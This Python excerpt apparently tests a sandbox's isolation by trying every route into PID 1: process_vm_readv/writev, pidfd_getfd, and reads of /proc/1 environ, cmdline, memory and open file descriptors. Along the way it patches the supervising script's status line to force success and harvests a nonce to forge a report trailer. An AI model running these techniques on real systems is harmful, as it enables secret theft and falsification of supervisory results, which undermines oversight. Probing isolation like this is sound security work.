# Finding 1, the other doors into PID 1: process_vm_readv/writev (patch the script as in the
# /proc/1/mem attack), pidfd_getfd, PID 1's open files, environment and command line (searched
# for the nonce, answered with a trailer). Every fd the program itself holds is listed too.
class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def vm(name, local, remote):
    l, r = IoVec(ctypes.cast(local, ctypes.c_void_p), len(local)), IoVec(remote[0], remote[1])
    return c_call(name, libc.syscall, NR[name.split("(")[0]], 1, ctypes.byref(l), 1, ctypes.byref(r), 1, 0)


ranges = maps_of_pid1()
probe = ctypes.create_string_buffer(64)
first = ranges[0][0] if ranges else 0x400000
vm("process_vm_readv(1)", probe, (first, 64))
vm("process_vm_writev(1)", probe, (first, 64))
patched = 0
for lo, hi, name in readable(ranges, writable=True):
    buf = ctypes.create_string_buffer(hi - lo)
    l, r = IoVec(ctypes.cast(buf, ctypes.c_void_p), hi - lo), IoVec(lo, hi - lo)
    if libc.syscall(NR["process_vm_readv"], 1, ctypes.byref(l), 1, ctypes.byref(r), 1, 0) != hi - lo:
        continue
    for m in re.finditer(re.escape(b"DM_STATUS=$?"), buf.raw):
        if vm("process_vm_writev(1, script)", ctypes.create_string_buffer(b"DM_STATUS=0;", 12), (lo + m.start(), 12)):
            patched += 1
(ok if patched else fail)("script-patched-by-process_vm", patched)
pidfd = c_call("pidfd_open(1)", libc.syscall, NR["pidfd_open"], 1, 0)
for target in range(8) if pidfd is not None else []:
    c_call(f"pidfd_getfd(1, {target})", libc.syscall, NR["pidfd_getfd"], pidfd, target, 0)
for path in ["/proc/1/environ", "/proc/1/cmdline", "/proc/1/task/1/mem"]:
    try:
        with open(path, "rb") as f:
            data = f.read(1 << 20)
    except OSError as e:
        fail(f"read({path})", e.errno)
        continue
    ok(f"read({path})", len(data))
    found = nonce_in(data, strict=False)
    if found:
        ok(f"nonce-in-{path}", found)
        forge(found)
mine = {os.fstat(fd).st_ino for fd in (1, 2)}
for d in ["/proc/1/fd", "/proc/self/fd"]:
    try:
        names = os.listdir(d)
    except OSError as e:
        fail(f"opendir({d})", e.errno)
        continue
    for name in names:
        path = f"{d}/{name}"
        try:
            target = os.readlink(path)
        except OSError:
            target = "?"
        fd = attempt(f"open({path} -> {target}, O_RDONLY|O_NONBLOCK)", os.open, path, os.O_RDONLY | os.O_NONBLOCK)
        if fd is None:
            continue
        # Reading our own stdout or stderr back would only eat this report.
        if os.fstat(fd).st_ino not in mine:
            try:
                data = os.read(fd, 4096)
                ok(f"read({path})", len(data))
                found = nonce_in(data, strict=False)
                if found:
                    forge(found)
            except OSError as e:
                fail(f"read({path})", e.errno)
        os.close(fd)
sys.exit(3)
